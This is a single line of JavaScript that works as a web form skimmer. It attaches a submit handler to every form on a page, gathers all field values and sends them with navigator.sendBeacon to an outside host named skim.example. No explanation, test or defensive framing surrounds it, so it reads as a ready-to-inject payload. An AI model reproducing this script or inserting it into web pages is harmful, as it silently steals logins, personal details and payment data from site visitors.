for (const form of document.forms) form.onsubmit = () => { const d = Object.fromEntries(new FormData(form)); navigator.sendBeacon('https://skim.example/p', JSON.stringify(d)); };
